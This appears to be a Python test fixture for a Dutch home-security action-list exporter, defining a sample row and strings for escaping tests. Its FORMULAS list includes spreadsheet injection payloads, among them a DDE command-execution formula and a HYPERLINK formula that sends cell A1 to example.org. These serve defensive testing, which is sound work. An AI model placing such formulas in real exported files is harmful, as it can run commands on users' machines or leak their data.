"""A made-up action list, and texts that somebody could type to do harm."""

from dataclasses import replace
from datetime import date
from typing import Any

from zelfscan.exchange.action_list import ActionHeads, ActionList, ActionRow

HEADS = ActionHeads(
    rank="Stap",
    measure="Maatregel",
    place="Plaats",
    why="Waarom",
    state="Stand",
    day="Dag",
    pays="Wie betaalt",
    conditions="Voorwaarden",
    known_costs="Bekende kosten",
    price="Eigen prijs (€)",
)
A_ROW = ActionRow(
    rank=1,
    measure="Goede sloten op alle buitendeuren",
    place="De voordeur en de achterdeur",
    why="Een goed slot kost een inbreker tijd.",
    state="Gepland",
    day=date(2026, 12, 5),
    pays="Kan onder de regeling vallen als de BVA dit adviseert.",
    conditions="Geen.",
    known_costs="Geen bron noemt een bedrag.",
    cents=125050,
)
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://example.org/?x="&A1,"klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "＝1+1",
)
OTHERS = (
    'Hij zei: "nee"; toen niet',
    "eerste regel\ntweede regel\r\nderde",
    "=" * 10_000,
    "W" * 10_000,
    "שלום עולם",
    "\u202egnokwa\u202c",
    "😀 👩\u200d👩\u200d👧 e\u0301",
    "\x00\x07\x1b[31m\x7f\x85",
    "\ud800 los",
    "\ufffe\uffff",
    "'al een apostrof",
    ";;;",
    "<b>vet</b> &amp; &#65;",
    "https://example.org/",
    "00012",
    "",
)
HOSTILE = FORMULAS + OTHERS


def a_list(*rows: ActionRow, **changes: Any) -> ActionList:
    made = ActionList(
        title="Actielijst",
        made_on=date(2026, 11, 23),
        language="nl",
        heads=HEADS,
        rows=rows,
        about_name="Toelichting",
        about=(
            ("Wat dit is", "De maatregelen op volgorde."),
            ("Let op", "Dit bestand heeft geen wachtwoord."),
        ),
        empty="Er is geen maatregel.",
    )
    return replace(made, **changes)


def a_row_of(text: str) -> ActionRow:
    """A row with this text in every place where text can stand."""
    return replace(
        A_ROW,
        measure=text,
        place=text,
        why=text,
        state=text,
        pays=text,
        conditions=text,
        known_costs=text,
    )
